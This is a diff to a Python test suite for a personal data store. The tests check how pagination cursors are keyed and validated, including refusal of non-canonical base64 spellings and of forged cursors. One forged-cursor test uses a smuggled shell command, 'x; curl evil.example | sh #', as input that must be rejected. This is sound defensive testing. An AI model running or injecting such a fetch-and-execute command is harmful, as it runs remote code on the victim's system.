@@ -1192,9 +1192,10 @@ def test_a_cursor_is_good_in_every_process_of_the_store(
     world: World, agency: pds.PrincipalKey
 ) -> None:
     """The cursor key is the store's (in its meta table, wrapped by the host key): a page
-    served by one Store object continues from another on the same file; a store key row
-    the host garbled only invalidates the cursors given out (they are refused and the
-    listing starts again with a new key)."""
+    served by one Store object continues from another on the same file. A key row the host
+    made unreadable as base64 is replaced (the cursors given out are refused, the listing
+    starts again); one that does not unwrap with the host key fails closed, as a host share
+    does: nothing served or logged, the key not replaced."""
     for i in range(3):
         world.clock.advance(1000)
         world.vault.put("tax/a", {"n": i})
@@ -1204,16 +1205,18 @@ def test_a_cursor_is_good_in_every_process_of_the_store(
     assert first.cursor is not None
     page = grantee.read(world.open_store(), token, action="list", limit=1, cursor=first.cursor)
     assert page.records[0].record_id != first.records[0].record_id
-    with raw(world.db) as db:
-        (wrapped,) = db.execute(
-            "SELECT value FROM meta WHERE key = ?", (_serve.CURSOR_KEY_META,)
-        ).fetchone()
-        # Wrapped (nonce, key, tag), not the 64-byte key itself.
-        assert len(base64.b64decode(wrapped)) > 64
-        db.execute(
-            "UPDATE meta SET value = ? WHERE key = ?",
-            (base64.b64encode(b"\x00" * 104).decode(), _serve.CURSOR_KEY_META),
-        )
+
+    def set_key_row(value: str) -> str:
+        with raw(world.db) as db:
+            (stored,) = db.execute(
+                "SELECT value FROM meta WHERE key = ?", (_serve.CURSOR_KEY_META,)
+            ).fetchone()
+            db.execute("UPDATE meta SET value = ? WHERE key = ?", (value, _serve.CURSOR_KEY_META))
+        return str(stored)
+
+    wrapped = set_key_row("not base64!")
+    # Wrapped (nonce, key, tag), not the 64-byte key itself.
+    assert len(base64.b64decode(wrapped)) > 64
     third = world.open_store()
     with pytest.raises(NotPermitted):
         grantee.read(third, token, action="list", limit=1, cursor=first.cursor)
@@ -1226,6 +1229,87 @@ def test_a_cursor_is_good_in_every_process_of_the_store(
         if cursor is None:
             break
     assert len(seen) == 3
+
+    other_key = base64.b64encode(bytes(len(base64.b64decode(wrapped)))).decode()
+    set_key_row(other_key)
+    fourth = world.open_store()
+    size = world.vault.log_size()
+    with pytest.raises(IntegrityError) as refused:
+        grantee.read(fourth, token, action="list", limit=1)
+    assert refused.value.reason == "cursor-key"
+    assert world.vault.log_size() == size
+    assert set_key_row(other_key) == other_key
+
+
+def test_a_cursor_has_one_text(world: World, agency: pds.PrincipalKey) -> None:
+    """The same sealed bytes in other base64 spellings (the last character's spare bits
+    set, the standard alphabet's '+' and '/') are refused: one text per cursor, as the
+    spec says, so a strict host and pds agree."""
+    for i in range(3):
+        world.clock.advance(1000)
+        world.vault.put("tax/a", {"n": i})
+    token = grant(world, agency)
+    grantee = world.grantee(agency)
+    cursor: str | None = None
+    spellings: list[str] = []
+    for _ in range(200):
+        page = grantee.read(world.store, token, action="list", limit=1, cursor=cursor)
+        cursor = page.cursor
+        if cursor is None:
+            page = grantee.read(world.store, token, action="list", limit=1)
+            cursor = page.cursor
+            assert cursor is not None
+        alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
+        last = alphabet.index(cursor[-1])
+        spellings += [cursor[:-1] + alphabet[last | bits] for bits in (1, 2, 3)]
+        if "-" in cursor or "_" in cursor:
+            spellings.append(cursor.replace("-", "+").replace("_", "/"))
+            break
+    for spelling in spellings:
+        invocation = forge_invocation(
+            token, agency, time_ms=world.clock.ms, action="list", cursor=spelling, limit=1
+        )
+        with pytest.raises(NotPermitted):
+            world.store.serve(invocation)
+
+
+def test_a_listing_of_records_made_before_1970_pages(tmp_path: Path) -> None:
+    """A record's time may be negative (an owner clock before 1970): its cursor holds it
+    (signed), where an unsigned one escaped serve as a struct.error."""
+    world = make_world(tmp_path / "world", start_ms=-10 * DAY_MS)
+    try:
+        agency = pds.PrincipalKey.generate()
+        for i in range(3):
+            world.clock.advance(1000)
+            world.vault.put("tax/a", {"n": i})
+        world.clock.set(DAY_MS)  # tokens carry times from 1970 on
+        token = grant(world, agency, window=None)
+        seen, cursors = _page_all(world, agency, token)
+        assert len(seen) == 3 and len(cursors) == 2
+    finally:
+        world.close()
+
+
+def test_the_grantee_refuses_a_cursor_no_host_returns(
+    world: World, agency: pds.PrincipalKey
+) -> None:
+    """A cursor the holder would send back, and may show (the CLI prints a command to page
+    on), must be a served cursor's 43 base64url characters: anything else is the host's
+    invention (``response``)."""
+    for i in range(3):
+        world.clock.advance(1000)
+        world.vault.put("tax/a", {"n": i})
+    token = grant(world, agency)
+    grantee = world.grantee(agency)
+    invocation = grantee.invoke(token, action="list", limit=1)
+    response = world.store.serve(invocation.to_bytes())
+    assert response.cursor is not None
+    grantee.open(token, response, invocation=invocation)
+    for bad in ("x; curl evil.example | sh #", response.cursor + "A", "1750000001000.7"):
+        forged = dataclasses.replace(response, cursor=bad)
+        with pytest.raises(IntegrityError) as refused:
+            grantee.open(token, forged, invocation=invocation)
+        assert refused.value.reason == "response"
 
 
 def test_a_refused_attempt_is_shown_to_the_person_at_once(
